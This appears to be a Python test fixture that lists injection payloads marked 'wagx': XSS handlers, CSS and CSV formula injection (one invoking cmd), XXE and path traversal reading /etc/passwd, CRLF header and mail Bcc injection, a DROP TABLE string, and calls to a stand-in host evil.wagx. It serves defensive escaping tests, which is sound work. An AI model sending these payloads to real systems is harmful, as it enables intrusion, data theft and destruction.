"""Forty texts, each made to break out of another place it may be shown in.  `wagx` marks all of
them: an element, attribute, handler, address or log line with it in was made by the text."""

CONTEXTS = [
    ("html element", "<wagx>x</wagx>"),
    ("html script", "<script>wagx()</script>"),
    ("html image", "<img src=x onerror=wagx()>"),
    ("html svg", "<svg/onload=wagx()>"),
    ("html frame", "<iframe srcdoc='<wagx>'></iframe>"),
    ("html form", "<form action=//evil.wagx><button formaction=//evil.wagx>x"),
    ("html base", "<base href=//evil.wagx/>"),
    ("html meta", "<meta http-equiv=refresh content='0;url=//evil.wagx'>"),
    ("html end of title", "</title><wagx>"),
    ("html end of textarea", "</textarea><wagx>"),
    ("html end of script", "</script><wagx>"),
    ("html entity", "&lt;wagx&gt;&#60;wagx&#x3e;"),
    ("attribute, double", "\" onfocus=wagx() autofocus wagx=\""),
    ("attribute, single", "' onfocus=wagx() autofocus wagx='"),
    ("attribute, none", "x onmouseover=wagx() wagx=1 "),
    ("attribute, back tick", "` onfocus=wagx() `"),
    ("attribute and out", "\"><wagx a=\""),
    ("url javascript", "javascript:wagx()"),
    ("url data", "data:text/html,<wagx>"),
    ("url of another site", "//evil.wagx/x"),
    ("url https", "https://evil.wagx/?q=1"),
    ("url of a link in text", "[x](javascript:wagx()) ![x](https://evil.wagx/p.png) <https://evil.wagx>"),
    ("js string", "\";wagx();//"),
    ("js template", "${wagx()}`;wagx();`"),
    ("js data", "{\"__proto__\":{\"wagx\":1}}"),
    ("css", "}*{background:url(//evil.wagx)}"),
    ("css expression", "x;width:expression(wagx())"),
    ("header", "x%0d%0aSet-Cookie: wagx=1"),
    ("csv equals", "=HYPERLINK(\"//evil.wagx\")"),
    ("csv plus", "+wagx()"),
    ("csv minus", "-2+3+cmd|' /C wagx'!A0"),
    ("csv at", "@SUM(wagx)"),
    ("csv fullwidth", "\uff1dwagx()"),
    ("svg", "]]><foreignObject><wagx/></foreignObject>"),
    ("xml entity", "<!DOCTYPE x [<!ENTITY wagx SYSTEM 'file:///etc/passwd'>]>&wagx;"),
    ("template", "{{wagx}} {{{wagx}}} <%= wagx %> #{wagx} {% wagx %}"),
    ("sql", "' OR 1=1; DROP TABLE wagx; --"),
    ("path", "../../../../etc/passwd%00wagx"),
    ("format", "%s%s%n%x wagx %p"),
    ("comment left open", "wagx <!-- <wagx "),
]
# These hold control signs: a box of one line must refuse them or make them harmless.
CONTROL = [
    ("header line", "x\r\nSet-Cookie: wagx=1\r\n\r\n<wagx>"),
    ("log line", "x\nat=2026-01-01T00:00:00.000Z what=wagx who=admin"),
    ("log escape", "x\x1b[2J\x1b]0;wagx\x07"),
    ("mail header", "x\r\nBcc: all@evil.wagx\r\n.\r\n"),
    ("line of Unicode", "x\u2028what=wagx\u2029\u0085wagx"),
    ("order of reading", "x\u202ewagx\u2066"),
    ("csv tab", "\t=wagx()"),
    ("csv return", "\r=wagx()"),
    ("nothing", "x\x00<wagx>"),
]
SQL = ["'", "''", "\"", "`", "1'", "1 OR 1=1", "' OR '1'='1", "1) OR (1=1", "1;SELECT 1", "1/**/OR/**/1=1", "1 UNION SELECT 1,2,3--",
       "id DESC", "(SELECT 1)", "CASE WHEN 1=1 THEN id ELSE said END", "0x31", "1e0", "%27%20OR%201=1--", "\\", "%", "_", "*",
       "sleep(5)", "pg_sleep(5)--", "randomblob(1000000000)", "-1", "99999999999999999999", "NULL", "\u02bc OR 1=1"]


def packed(limit, texts):
    """The texts, joined into as few as fit in a box; one too long for it is cut."""
    out, now = [], ""
    for _, t in texts:
        t = t[:limit]
        if now and len((now + " " + t).encode()) > limit:
            out.append(now)
            now = ""
        now = now + " " + t if now else t
        while len(now.encode()) > limit:
            now = now[:-1]
    return out + [now] if now else out
